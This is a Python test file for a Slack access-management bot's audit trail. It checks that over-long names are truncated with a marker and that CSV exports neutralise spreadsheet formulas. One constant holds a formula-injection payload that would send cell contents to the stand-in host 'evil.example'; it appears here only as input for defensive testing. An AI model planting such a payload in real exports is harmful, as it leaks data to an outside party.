"""Typed text in the audit trail: long values are cut to fit rather than lost, exports are safe to open."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot.cli.audit import write_csv
from storage.models import AuditEvent
from tests.e2e.helpers import wait_ephemeral
from tests.e2e.test_audit_cli import pam_bot
from tests.e2e.test_text_in_out import reply, shown
from tests.fixtures_bot import OUTSIDER, REQUESTER, Bot

LONG = "a" * 300
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'


def cut_marker(value: str, column: str) -> None:
    """`value` fills its column exactly and ends saying how much was cut."""
    limit = AuditEvent.__table__.c[column].type.length  # type: ignore[attr-defined]
    assert len(value) == limit, (column, len(value))
    assert value.endswith("]") and "…[+" in value, value[-20:]


@pytest.mark.parametrize("text", [f"access prod-aws {LONG} 30m checking", f"access prod-aws/{LONG}",
                                  f"access {LONG}/{LONG} 1h"])
def test_a_300_character_account_name_is_refused_clearly_and_audited(bot: Bot, text: str) -> None:
    bot.add_account()
    message = shown(reply(bot, REQUESTER, text))
    assert "There is no account `" in message and "`prod-aws/readonly`" in message
    assert "Something went wrong" not in message and LONG not in message  # the echo is cut, the list intact
    (event,) = bot.audit("request.create")[-1:]
    assert (event.actor, event.outcome) == (REQUESTER, "refused")
    cut_marker(event.target, "target")
    assert pam_bot(bot, "audit", "verify").returncode == 0  # the chain hashes what was stored


def test_a_300_character_user_id_in_sessions_is_refused_and_audited(bot: Bot) -> None:
    message = shown(reply(bot, OUTSIDER, "sessions U" + "X" * 299))
    assert "Only pam-bot admins" in message
    (event,) = bot.audit("session.list")
    assert (event.actor, event.outcome) == (OUTSIDER, "refused")
    cut_marker(event.target, "target")


def test_a_300_character_actor_is_refused_and_audited(bot: Bot) -> None:
    """Whoever Slack names as the actor, the refusal is written (cut to the actor column). A user id Slack does
    not know is refused by the worker before anything else, privately through the command's response_url."""
    bot.add_account()
    stranger = "U" + "Z" * 299
    response = bot.driver.command(stranger, "access prod-aws readonly 30m checking")
    assert response.status == 200
    message = wait_ephemeral(bot.slack, "Slack does not know you")
    assert "Something went wrong" not in message
    (event,) = bot.audit("slack.request")
    assert event.outcome == "refused" and event.details["code"] == "unknown_user"
    cut_marker(event.actor, "actor")


def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(bot: Bot, tmp_path: Path) -> None:
    bot.add_account()
    assert "There is no account" in shown(reply(bot, REQUESTER, f"access {HYPERLINK} 30m"))
    target = HYPERLINK  # its `/` splits it into a resource and an account name

    exported = pam_bot(bot, "audit", "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["action"] == "request.create"]
    assert [r["target"] for r in rows] == [f"'{target}"]
    assert json.loads(rows[0]["details"])["message"].startswith("There is no account")

    out = tmp_path / "trail.jsonl"
    assert pam_bot(bot, "audit", "export", "--output", str(out)).returncode == 0
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["target"] for r in records if r["action"] == "request.create"] == [target]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_every_text_cell(start: str) -> None:
    record = {"id": 7, "at": "2026-03-01T09:00:00+00:00", "actor": f"{start}actor", "action": f"{start}cmd",
              "target": f"{start}1+1", "outcome": "refused", "details": {"reason": f"{start}x"},
              "prev_hash": "0" * 64, "hash": "f" * 64}
    out = io.StringIO()
    write_csv([record], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert [row[key] for key in ("actor", "action", "target")] == [f"'{start}actor", f"'{start}cmd", f"'{start}1+1"]
    assert row["id"] == "7" and row["outcome"] == "refused" and json.loads(row["details"]) == {"reason": f"{start}x"}
